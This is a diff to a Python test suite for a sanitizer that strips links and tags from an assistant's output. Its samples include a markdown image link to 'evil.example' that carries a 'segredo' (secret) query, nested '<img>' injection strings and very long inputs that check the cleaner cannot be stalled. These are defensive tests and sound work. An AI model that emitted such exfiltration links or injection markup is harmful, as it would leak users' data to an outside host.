@@ -5,6 +5,7 @@ from hypothesis import given
 from hypothesis import strategies as st
 
 from core.assistant.markup import OMITTED, plain
+from tests.patience import time_limit
 
 HOSTILE = [
     "![a](https://evil.example/?q=segredo)",
@@ -87,3 +88,26 @@ def test_an_allowed_host_keeps_its_https_links() -> None:
     assert plain("Veja https://bom.gov.br/a.", hosts) == "Veja https://bom.gov.br/a."
     assert plain("Veja [isto](https://bom.gov.br/a).", hosts) == "Veja isto https://bom.gov.br/a."
     assert "bom.gov.br" not in plain("![i](https://bom.gov.br/a.png)", hosts)
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        *(
+            piece * (100_000 // len(piece))
+            for piece in ("a", "a.", "a-", "<a", "data:", "www.", "http:", "[](")
+        ),
+        "<" * 30_000 + "a>" * 30_000,
+        "![" * 30_000 + "]" * 30_000,
+        "[a](" + "()" * 50_000,
+    ],
+)
+def test_hostile_text_is_cleaned_in_no_time(text: str) -> None:
+    with time_limit(20):
+        assert not ACTIVE.search(plain(text))
+
+
+@pytest.mark.parametrize("depth", [3, 20, 200])
+def test_depth_does_not_bring_a_tag_through(depth: int) -> None:
+    assert "<" not in plain("<a" * depth + "<img src=x>" + ">" * depth)
+    assert "](" not in plain("[a](" * depth + "https://evil.example/x" + ")" * depth)
